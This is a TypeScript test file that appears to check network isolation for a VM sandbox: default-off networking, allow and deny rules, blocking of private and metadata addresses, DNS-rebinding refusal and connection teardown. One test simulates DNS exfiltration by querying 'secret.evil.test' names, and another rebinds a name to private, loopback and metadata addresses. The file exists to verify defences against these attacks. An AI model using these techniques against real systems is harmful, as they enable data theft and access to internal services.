// Network policies on real VMs in an isolated test network.

import assert from "node:assert/strict";
import { after, before, beforeEach, describe, it } from "node:test";
import { NetDaemon } from "../helpers/net-daemon.ts";
import { probe } from "../helpers/net-guest.ts";
import { NetWorld, OUTSIDE } from "../helpers/net-world.ts";
import { patience } from "../helpers/patience.ts";
import { until } from "../helpers/until.ts";

import type { NetworkOptions, Sandbox } from "forkd";

/** unreachable unless a rule names them; the test's servers listen on all of them */
const FORBIDDEN = [
  OUTSIDE.private,
  OUTSIDE.otherPrivate,
  OUTSIDE.metadata,
  OUTSIDE.carrier,
  OUTSIDE.benchmarking,
  OUTSIDE.unique6,
  OUTSIDE.translated6,
  `::ffff:${OUTSIDE.private}`,
  // the host: its own addresses, and its loopback through the DNS server's address
  "198.51.100.1",
  "10.55.0.1",
  "2001:db8:1::1",
  "192.0.2.1",
];

const missing = await NetWorld.missing();

describe("a sandbox's network", { skip: missing ?? false }, () => {
  let net: NetDaemon;
  let world: NetWorld;

  before(async () => {
    net = await NetDaemon.start();
    world = net.world;
    await net.makeSnapshot();
  });

  after(async () => net?.[Symbol.asyncDispose]());

  beforeEach(async () => net.beginTest());

  const make = async (network?: NetworkOptions): Promise<Sandbox> => net.sandbox(network);

  const reached = (): string[] => [...new Set(world.hits.map(({ address }) => address))].toSorted();

  it("is off by default: everything fails at once, and no query is sent", async () => {
    await using sandbox = await make();
    assert.deepEqual(sandbox.info.network, { mode: "none", allow: [], egress_limit_bytes: null });
    for (const host of [OUTSIDE.public, OUTSIDE.public6, OUTSIDE.metadata, "192.0.2.1"])
      assert.equal(await probe(sandbox, `get("${host}")`), "OSError ENETUNREACH", host);
    assert.match(String(await probe(sandbox, `get("pub.test")`)), /gaierror/);
    assert.deepEqual(await probe(sandbox, `ask("pub.test")`), ["ENETUNREACH", []]);
    assert.deepEqual([world.hits, world.asked], [[], []]);
  });

  it("allows by name, by wildcard and by port, over IPv4 and IPv6", async () => {
    await using sandbox = await make({ mode: "allow", allow: ["pub.test:80", "*.PUB.test"] });
    assert.equal(await probe(sandbox, `get("pub.test")`), "hello");
    assert.deepEqual(await sandbox.ports.list(), [], "the listener of forkd is not a server of the host");
    assert.equal(await probe(sandbox, `get("www.pub.test")`), "hello");
    assert.equal(await probe(sandbox, `get("www.pub.test", 8080)`), "hello");
    // by address, after the name was resolved
    assert.equal(await probe(sandbox, `get("${OUTSIDE.public6}")`), "hello");
    assert.equal(await probe(sandbox, `get("pub.test", 8080)`), "ConnectionResetError ECONNRESET");
    assert.equal(await probe(sandbox, `get("${OUTSIDE.gateway}")`), "ConnectionResetError ECONNRESET");
    assert.match(String(await probe(sandbox, `get("private.test")`)), /gaierror/);
    assert.deepEqual(reached(), [OUTSIDE.public6, OUTSIDE.otherPublic].toSorted());
    assert.ok(
      world.asked.every((name) => name.endsWith("pub.test")),
      world.asked.join(" "),
    );
    const { recent, connections_refused: refused, bytes_down: down } = await sandbox.network.get();
    assert.ok(refused >= 3);
    assert.ok(down > 0);
    const named = recent.find(({ name, decision }) => name === "pub.test" && decision === "allowed");
    assert.deepEqual([named?.ip, named?.port, named?.reason, named?.open], [OUTSIDE.public6, 80, "rule pub.test:80", false]);
    assert.ok(recent.some(({ name, ip, decision }) => name === "private.test" && ip === null && decision === "refused"));
  });

  it("allows by address and by range", async () => {
    await using sandbox = await make({ mode: "allow", allow: [`${OUTSIDE.private}:80`, "203.0.113.0/24:80,443", "[fd00:77::/32]:80"] });
    for (const host of [OUTSIDE.private, OUTSIDE.public, OUTSIDE.otherPublic, OUTSIDE.unique6])
      assert.equal(await probe(sandbox, `get("${host}")`), "hello", host);
    assert.equal(await probe(sandbox, `get("${OUTSIDE.public}", 8080)`), "ConnectionResetError ECONNRESET");
    for (const host of [OUTSIDE.otherPrivate, OUTSIDE.metadata, OUTSIDE.gateway, OUTSIDE.public6])
      assert.equal(await probe(sandbox, `get("${host}")`), "ConnectionResetError ECONNRESET", host);
    assert.deepEqual(reached(), [OUTSIDE.private, OUTSIDE.public, OUTSIDE.otherPublic, OUTSIDE.unique6].toSorted());
    assert.deepEqual(world.asked, []);
  });

  it("that is open reaches public addresses only", async () => {
    await using sandbox = await make({ mode: "open" });
    for (const host of [OUTSIDE.public, OUTSIDE.public6, OUTSIDE.gateway, "pub.test"])
      assert.equal(await probe(sandbox, `get("${host}")`), "hello", host);
    const before = world.hits.length;
    for (const host of FORBIDDEN) assert.equal(await probe(sandbox, `get("${host}")`), "ConnectionResetError ECONNRESET", host);
    for (const host of ["0.1.2.3", "240.0.0.1", "100::1", "2002:a09:807::1"])
      assert.equal(await probe(sandbox, `get("${host}")`), "ConnectionResetError ECONNRESET", host);
    assert.match(String(await probe(sandbox, `get("private.test")`)), /gaierror/);
    assert.deepEqual(await probe(sandbox, `ask("mixed.test")`), [0, [OUTSIDE.public]]);
    assert.equal(world.hits.length, before);
  });

  it("that is open does not reach denied addresses", async () => {
    await using sandbox = await make({ mode: "open", deny: [OUTSIDE.public, "2001:db8::/32", `${OUTSIDE.gateway}:8080`] });
    assert.deepEqual(sandbox.info.network.deny, [OUTSIDE.public, "2001:db8::/32", `${OUTSIDE.gateway}:8080`]);
    for (const host of [OUTSIDE.public, OUTSIDE.public6])
      assert.equal(await probe(sandbox, `get("${host}")`), "ConnectionResetError ECONNRESET");
    assert.equal(await probe(sandbox, `get("${OUTSIDE.gateway}", 8080)`), "ConnectionResetError ECONNRESET");
    assert.equal(await probe(sandbox, `get("${OUTSIDE.gateway}")`), "hello");
    await using allowed = await make({ mode: "open", allow: [`${OUTSIDE.public}:80`], deny: [OUTSIDE.public] });
    assert.equal(await probe(allowed, `get("${OUTSIDE.public}")`), "hello");
  });

  it("refuses a name that resolves to a private address later", async () => {
    await world.name({
      "rebind.test": { A: [[OUTSIDE.public], [OUTSIDE.private], ["127.0.0.1"], [OUTSIDE.metadata], [OUTSIDE.private, OUTSIDE.metadata]] },
    });
    await using sandbox = await make({ mode: "allow", allow: ["rebind.test"] });
    assert.equal(await probe(sandbox, `get("rebind.test")`), "hello");
    for (let i = 0; i < 4; i++) {
      const before = world.timesAsked("rebind.test");
      let answer: unknown;
      // an address is valid for the TTL of its answer, one second
      await until(async () => {
        answer = await probe(sandbox, `get("rebind.test")`);
        return world.timesAsked("rebind.test") > before;
      });
      assert.match(String(answer), /gaierror/);
    }
    assert.ok(world.asked.length >= 4);
    for (const host of [OUTSIDE.private, OUTSIDE.metadata, "192.0.2.1"])
      assert.equal(await probe(sandbox, `get("${host}")`), "ConnectionResetError ECONNRESET", host);
    // the first address of the name is still public
    assert.equal(await probe(sandbox, `get("${OUTSIDE.public}")`), "hello");
    assert.deepEqual(reached(), [OUTSIDE.public]);
  });

  it("reaches the host itself only if a rule names its exact address", async () => {
    await using sandbox = await make({ mode: "allow", allow: ["127.0.0.1:8080", "198.51.100.1:80"] });
    assert.equal(await probe(sandbox, `get("host.forkd.internal", 8080)`), "hello");
    assert.equal(await probe(sandbox, `get("198.51.100.1")`), "hello");
    assert.equal(await probe(sandbox, `get("host.forkd.internal", 80)`), "ConnectionResetError ECONNRESET");
    assert.equal(await probe(sandbox, `get("10.55.0.1")`), "ConnectionResetError ECONNRESET");
    assert.deepEqual(reached(), ["127.0.0.1", "198.51.100.1"]);
    // 127.0.0.1 is always the guest's own loopback
    assert.equal(await probe(sandbox, `get("127.0.0.1", 8080)`), "ConnectionRefusedError ECONNREFUSED");
    await sandbox.network.set({ mode: "allow", allow: ["127.0.0.0/8", "198.51.100.0/24"] });
    assert.match(String(await probe(sandbox, `get("host.forkd.internal", 8080)`)), /gaierror/);
    assert.equal(await probe(sandbox, `get("192.0.2.1", 8080)`), "ConnectionResetError ECONNRESET");
    assert.equal(await probe(sandbox, `get("198.51.100.1")`), "ConnectionResetError ECONNRESET");
  });

  it("answers DNS queries itself, to any server and over any transport", async () => {
    await using sandbox = await make({ mode: "allow", allow: ["pub.test"] });
    const found = [0, [OUTSIDE.public]];
    for (const server of ["192.0.2.1", "8.8.8.8", OUTSIDE.private, "2001:db8::53"])
      for (const tcp of ["False", "True"]) assert.deepEqual(await probe(sandbox, `ask("pub.test", 1, "${server}", ${tcp})`), found, server);
    assert.deepEqual(await probe(sandbox, `ask("pub.test", 28)`), [0, [OUTSIDE.public6]]);
    assert.deepEqual(await probe(sandbox, `ask("pub.test", 65)`), [0, []]);
    assert.deepEqual(await probe(sandbox, `ask("PuB.TeSt")`), found);
    assert.deepEqual([world.hits.length, [...new Set(world.asked)]], [0, ["pub.test"]]);
    // DNS queries must not carry data out through other names
    world.forget();
    await probe(sandbox, `[ask("%d.secret.evil.test" % i) for i in range(200)][-1]`);
    for (const name of ["evil.test", "pub.test.evil.test", "xpub.test", "www.pub.test"])
      assert.deepEqual(await probe(sandbox, `ask("${name}")`), [3, []], name);
    assert.deepEqual(world.asked, []);
  });

  it("closes connections when the policy changes", async () => {
    await using sandbox = await make({ mode: "allow", allow: ["pub.test"] });
    assert.equal(await probe(sandbox, `hold("a", "pub.test")`), "hello");
    assert.equal(await probe(sandbox, `hold("b", "${OUTSIDE.public}")`), "hello");
    assert.equal((await sandbox.network.get()).connections_open, 2);
    await sandbox.network.set({ mode: "allow", allow: [OUTSIDE.public] });
    // one of the connections is still allowed
    assert.equal((await sandbox.network.get()).connections_open, 1);
    assert.equal(await probe(sandbox, `echo("a")`), "ECONNRESET");
    assert.equal(await probe(sandbox, `echo("b")`), "hello");
    const begun = Promise.withResolvers<void>();
    const seen = sandbox.eval(`print("waits")\nwaits("b")`, { timeoutSecs: patience() / 1000, onStdout: () => begun.resolve() });
    await begun.promise;
    assert.equal((await sandbox.network.set({ mode: "none" })).connections_open, 0);
    assert.equal((await seen).value, "ECONNRESET");
    assert.equal(await probe(sandbox, `get("${OUTSIDE.public}")`), "OSError ENETUNREACH");
    await sandbox.network.set({ mode: "open" });
    assert.equal(await probe(sandbox, `get("pub.test")`), "hello");
    const events = await net.daemon.cli(["events", "--json", "--since", "0", "--count", "3", "--types", "sandbox.network"]);
    assert.deepEqual(
      events.stdout
        .trim()
        .split("\n")
        .map((line) => (JSON.parse(line) as { metadata: unknown }).metadata),
      // from the previous test, and from this one
      [{ mode: "allow" }, { mode: "allow" }, { mode: "none" }],
    );
  });

  it("can be closed while the sandbox is paused, and be opened afterwards", async () => {
    await using sandbox = await make({ mode: "allow", allow: ["pub.test"] });
    assert.equal(await probe(sandbox, `hold("a", "pub.test")`), "hello");
    await sandbox.pause();
    assert.equal((await sandbox.network.set({ mode: "none" })).connections_open, 0);
    await assert.rejects(sandbox.network.set({ mode: "open" }), { code: "SANDBOX_PAUSED" });
    await sandbox.resume();
    assert.equal(await probe(sandbox, `echo("a")`), "ECONNRESET");
    assert.equal(await probe(sandbox, `get("${OUTSIDE.public}")`), "OSError ENETUNREACH");
    await sandbox.network.set({ mode: "open" });
    assert.equal(await probe(sandbox, `get("pub.test")`), "hello");
  });

  it("has its name server with any resolv.conf of the image", async () => {
    await using sandbox = await make();
    for (const script of ["rm -f /etc/resolv.conf; ln -s ../run/nowhere/stub.conf /etc/resolv.conf", "rm -f /etc/resolv.conf"]) {
      assert.equal((await sandbox.exec(script)).exit_code, 0);
      await using child = (await sandbox.fork(1, { network: { mode: "allow", allow: ["pub.test"] } }))[0] ?? assert.fail();
      assert.equal(await probe(child, `get("pub.test")`), "hello", script);
      assert.equal((await child.exec("cat /etc/resolv.conf")).stdout, "nameserver 192.0.2.1\n");
    }
  });

  it("refuses invalid rules, and changes nothing", async () => {
    await using sandbox = await make({ mode: "allow", allow: ["pub.test"] });
    for (const allow of [
      ["https://pub.test"],
      ["10.0.0.1/8"],
      ["pub.test:99999"],
      ["127.1"],
      [""],
      Array.from({ length: 257 }, () => "a.test"),
    ])
      await assert.rejects(sandbox.network.set({ mode: "allow", allow }), { code: "BAD_REQUEST" }, allow[0]);
    await assert.rejects(sandbox.network.set({ mode: "none", allow: ["pub.test"] }), { code: "BAD_REQUEST" });
    await assert.rejects(make({ mode: "allow", allow: ["*pub.test"] }), { code: "BAD_REQUEST" });
    assert.deepEqual((await sandbox.network.get()).allow, ["pub.test"]);
    assert.equal(await probe(sandbox, `get("pub.test")`), "hello");
  });
});
